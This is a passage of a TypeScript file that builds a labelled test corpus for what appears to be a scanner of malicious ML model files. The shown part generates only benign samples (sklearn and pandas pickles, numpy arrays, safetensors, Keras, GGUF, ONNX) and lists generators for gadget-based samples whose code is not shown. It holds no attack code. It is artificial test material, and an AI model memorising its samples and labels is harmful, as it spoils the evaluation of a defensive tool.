            ),
          ],
        }),
        5,
      ),
    ),
    b(
      'grid-search.pkl',
      dumps(
        estimator('sklearn.model_selection._search', 'GridSearchCV', {
          estimator: logisticRegression(2),
          param_grid: dict({ C: [1, 2] }),
          scorer_: global('sklearn.metrics._scorer', '_passthrough_scorer'),
          best_params_: dict({ C: 1 }),
          best_estimator_: logisticRegression(2),
        }),
        5,
      ),
    ),
    b(
      'select-k-best.pkl',
      dumps(
        estimator('sklearn.feature_selection._univariate_selection', 'SelectKBest', {
          score_func: global('sklearn.feature_selection._univariate_selection', 'f_classif'),
          k: 2,
          scores_: ndarray('f8', [4]),
          pvalues_: ndarray('f8', [4]),
        }),
        5,
      ),
    ),
    b(
      'knn.pkl',
      dumps(
        estimator('sklearn.neighbors._classification', 'KNeighborsClassifier', {
          n_neighbors: 5,
          _tree: {
            reduce: global('sklearn.neighbors._kd_tree', 'newObj'),
            args: [global('sklearn.neighbors._kd_tree', 'KDTree')],
            state: tuple(ndarray('f8', [10, 2]), ndarray('i8', [10]), 40, 0),
          },
          _fit_X: ndarray('f8', [10, 2]),
        }),
        5,
      ),
    ),
    b(
      'hist-gradient-boosting.pkl',
      dumps(
        estimator(
          'sklearn.ensemble._hist_gradient_boosting.gradient_boosting',
          'HistGradientBoostingClassifier',
          {
            max_iter: 3,
            _loss: call(
              'sklearn._loss._loss',
              '__pyx_unpickle_CyHalfBinomialLoss',
              global('sklearn._loss._loss', 'CyHalfBinomialLoss'),
              123456,
              tuple(),
            ),
            _bin_mapper: instance(
              'sklearn.ensemble._hist_gradient_boosting.binning',
              '_BinMapper',
              dict({ n_bins: 256 }),
            ),
          },
        ),
        5,
      ),
    ),
    b(
      'tfidf-sparse.pkl',
      dumps(
        dict({
          matrix: instance(
            'scipy.sparse._csr',
            'csr_matrix',
            dict({
              _shape: tuple(2, 3),
              data: ndarray('f8', [3]),
              indices: ndarray('i4', [3]),
              indptr: ndarray('i4', [3]),
              maxprint: 50,
            }),
          ),
        }),
        5,
      ),
    ),
    b('range-proto2.pkl', dumps(dict({ steps: call('builtins', 'range', 0, 10, 2), label: 'x' }), 2)),
    b(
      'xgboost.pkl',
      dumps(instance('xgboost.core', 'Booster', dict({ handle: { bytearray: weights(256, 5) } })), 4),
    ),
    b(
      'lightgbm.pkl',
      dumps(
        instance(
          'lightgbm.basic',
          'Booster',
          dict({ handle: 'tree\nversion=v4\n', pandas_categorical: null }),
        ),
        4,
      ),
    ),
  ];
}

function benignData(): CorpusFile[] {
  const b = (path: string, data: Uint8Array) => ({
    path: `benign/data/${path}`,
    data,
    label: 'benign' as Label,
    category: 'benign: numpy / pandas / plain pickles',
  });
  const plain = dumps(
    dict({
      set: { set: [1, 2, 3] },
      frozen: { frozenset: ['a', 'b'] },
      ns: instance('types', 'SimpleNamespace', dict({ a: 1, b: 'x' })),
      path: call('pathlib', 'PosixPath', 'data', 'train.csv'),
      pure: call('pathlib', 'PurePosixPath', '/srv/models'),
      id: instance(
        'uuid',
        'UUID',
        dict({ int: 0x12345678123456781234567812345678n, is_safe: call('uuid', 'SafeUUID', null) }),
      ),
      when: call('datetime', 'datetime', Uint8Array.from([7, 232, 3, 15, 12, 0, 0, 0, 0, 0])),
      day: call('datetime', 'date', Uint8Array.from([7, 232, 3, 15])),
      price: call('decimal', 'Decimal', '19.99'),
      ordered: { reduce: global('collections', 'OrderedDict'), args: [], dictitems: [['a', 1]] },
      counts: call('collections', 'Counter', dict({ x: 2 })),
      queue: call('collections', 'deque', [1, 2], 10),
      dflt: {
        reduce: global('collections', 'defaultdict'),
        args: [global('builtins', 'list')],
        dictitems: [['k', [1]]],
      },
      frac: call('fractions', 'Fraction', '1/3'),
      cplx: call('builtins', 'complex', float(1), float(2)),
      rng: call('builtins', 'range', 0, 10, 2),
    }),
    4,
  );
  const strObjects = npy('|O', '(3,)', dumps(ndarray('O8', [3], ['a', 'bb', 'ccc']), 3));
  const dictObjects = npy(
    '|O',
    '(2,)',
    dumps(
      ndarray(
        'O8',
        [2],
        [dict({ label: 'cat', box: [1, 2, 3, 4] }), dict({ label: 'dog', box: [float(0.5), 1, 2, 3] })],
      ),
      3,
    ),
  );
  return [
    b('plain-python.pkl', plain),
    b(
      'plain-python-proto2.pkl',
      dumps(
        dict({
          s: { set: [1, 2] },
          ns: instance('types', 'SimpleNamespace', dict({ a: 1 })),
          p: call('pathlib', 'PosixPath', 'x'),
        }),
        2,
      ),
    ),
    b(
      'records.pkl',
      dumps(
        [
          dict({ id: 1, text: 'hello', tags: ['a', 'b'], score: float(0.5) }),
          dict({ id: 2, text: 'bye', tags: [], score: null }),
        ],
        3,
      ),
    ),
    b(
      'nested-arrays-proto2.pkl',
      dumps(dict({ layers: [ndarray('f4', [2, 2]), ndarray('f4', [2])], meta: tuple('v1', 3) }), 2),
    ),
    b('vocab.pkl', dumps(dict(Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`tok${i}`, i]))), 4)),
    b('embeddings.pkl', dumps(dict({ words: ['a', 'b'], vectors: ndarray('f4', [2, 64]) }), 4)),
    b('embeddings-proto5.pkl', dumps(dict({ vectors: ndarray5('f4', [8, 16]) }), 5)),
    b('dataframe.pkl', dumps(dataFrame(['a', 'b', 'c'], 20), 5)),
    b(
      'datetime-series.pkl',
      dumps(
        instance(
          'pandas.core.series',
          'Series',
          dict({
            _mgr: call(
              'pandas.core.indexes.datetimes',
              '_new_DatetimeIndex',
              global('pandas.core.indexes.datetimes', 'DatetimeIndex'),
              dict({
                data: call(
                  'pandas._libs.arrays',
                  '__pyx_unpickle_NDArrayBacked',
                  global('pandas.core.arrays.datetimes', 'DatetimeArray'),
                  1234,
                  tuple(),
                ),
                name: null,
                freq: null,
              }),
            ),
            _typ: 'series',
            _name: null,
          }),
        ),
        5,
      ),
    ),
    b(
      'scalars.pkl',
      dumps(
        [
          scalar('f8', new Uint8Array(8)),
          scalar('i8', new Uint8Array(8)),
          global('numpy', 'float64'),
          dtype('f4'),
        ],
        4,
      ),
    ),
    b('weights.npy', npy('<f4', '(4, 4)', new Uint8Array(64))),
    b('labels.npy', npy('<i8', '(10,)', new Uint8Array(80))),
    b('mask.npy', npy('|b1', '(16,)', new Uint8Array(16))),
    b('records.npy', npyRaw("[('x', '<f4'), ('y', '<i4')]", '(2,)', new Uint8Array(16))),
    b('strings.npy', strObjects),
    b('dicts.npy', dictObjects),
    b(
      'arrays.npz',
      zipSync(
        { 'a.npy': npy('<f8', '(2,)', new Uint8Array(16)), 'b.npy': npy('<i4', '(3,)', new Uint8Array(12)) },
        { level: 6 },
      ),
    ),
    b('names.npz', zipSync({ 'names.npy': strObjects, 'x.npy': npy('<f4', '(2,)', new Uint8Array(8)) })),
  ];
}

function benignOtherFormats(): CorpusFile[] {
  const b = (path: string, data: Uint8Array | string) => ({
    path: `benign/formats/${path}`,
    data,
    label: 'benign' as Label,
    category: 'benign: other model formats',
  });
  const st = (header: object, n: number) => {
    const h = strToU8(JSON.stringify(header));
    return new Uint8Array([...u64(h.length), ...h, ...weights(n, 9)]);
  };
  const denseConfig = JSON.stringify({
    class_name: 'Sequential',
    config: {
      name: 'seq',
      layers: [
        { class_name: 'InputLayer', config: { name: 'in', batch_shape: [null, 4] }, module: 'keras.layers' },
        { class_name: 'Dense', config: { name: 'd1', units: 8, activation: 'relu' }, module: 'keras.layers' },
        { class_name: 'Dropout', config: { name: 'drop', rate: 0.1 }, module: 'keras.layers' },
        {
          class_name: 'Dense',
          config: { name: 'out', units: 1, activation: 'sigmoid' },
          module: 'keras.layers',
        },
      ],
    },
    module: 'keras',
  });
  const notebook = JSON.stringify({
    cells: [
      { cell_type: 'markdown', metadata: {}, source: ['# Training\n', 'Questions: ml-team@example.com'] },
      {
        cell_type: 'code',
        metadata: {},
        execution_count: 1,
        source: [
          'import torch\n',
          'model = torch.nn.Linear(4, 2)\n',
          "torch.save(model.state_dict(), 'model.pt')",
        ],
        outputs: [],
      },
    ],
    metadata: {},
    nbformat: 4,
    nbformat_minor: 5,
  });
  return [
    b(
      'model.safetensors',
      st(
        {
          'w.weight': { dtype: 'F32', shape: [4, 4], data_offsets: [0, 64] },
          __metadata__: { format: 'pt' },
        },
        64,
      ),
    ),
    b(
      'fp16.safetensors',
      st(
        {
          a: { dtype: 'F16', shape: [8], data_offsets: [0, 16] },
          b: { dtype: 'BF16', shape: [2, 2], data_offsets: [16, 24] },
        },
        24,
      ),
    ),
    b(
      'empty-tensor.safetensors',
      st(
        {
          e: { dtype: 'I64', shape: [0], data_offsets: [0, 0] },
          x: { dtype: 'I64', shape: [1], data_offsets: [0, 8] },
        },
        8,
      ),
    ),
    b('dense.keras', kerasZip(denseConfig)),
    b('dense.h5', h5(denseConfig)),
    b('weights-only.h5', h5('')),
    b('tiny.gguf', gguf({ 'general.name': 'tiny', 'general.architecture': 'llama' })),
    b(
      'chat.gguf',
      gguf({
        'tokenizer.chat_template': "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}",
      }),
    ),
    b('model.onnx', onnxWithExternal('weights.bin')),
    b('weights.bin', weights(32, 2)),
    b('saved_model.pb', savedModel(['Placeholder', 'MatMul', 'BiasAdd', 'Relu', 'Identity'])),
    b('train.ipynb', notebook),
    b('requirements.txt', 'torch==2.6.0\nnumpy==1.26.4\nscikit-learn==1.5.2\n'),
    b(
      'train.py',
      "import torch\nfrom safetensors.torch import save_file\n\nmodel = torch.nn.Linear(4, 2)\nsave_file(model.state_dict(), 'model.safetensors')\n",
    ),
    b(
      'config.json',
      JSON.stringify({
        architectures: ['BertModel'],
        hidden_size: 768,
        num_attention_heads: 12,
        vocab_size: 30522,
      }),
    ),
  ];
}

/** An `.npy` whose descr is written as is (structured dtypes are a list, not a quoted string). */
function npyRaw(descr: string, shape: string, payload: Uint8Array): Uint8Array {
  let header = `{'descr': ${descr}, 'fortran_order': False, 'shape': ${shape}, }`;
  header += ' '.repeat(63 - ((header.length + 10) % 64)) + '\n';
  return new Uint8Array([
    0x93,
    ...strToU8('NUMPY'),
    1,
    0,
    header.length & 0xff,
    header.length >> 8,
    ...strToU8(header),
    ...payload,
  ]);
}

/** The whole corpus. */
export function buildCorpus(): CorpusFile[] {
  return [
    ...stdlibGadgets(),
    ...mutations(),
    ...computedGlobals(),
    ...frames(),
    ...compressed(),
    ...kerasExternal(),
    ...safetensorsHeaders(),
    ...knownStyles(),
    ...benignTorch(),
    ...benignSklearn(),
    ...benignData(),
    ...benignOtherFormats(),
  ];
}
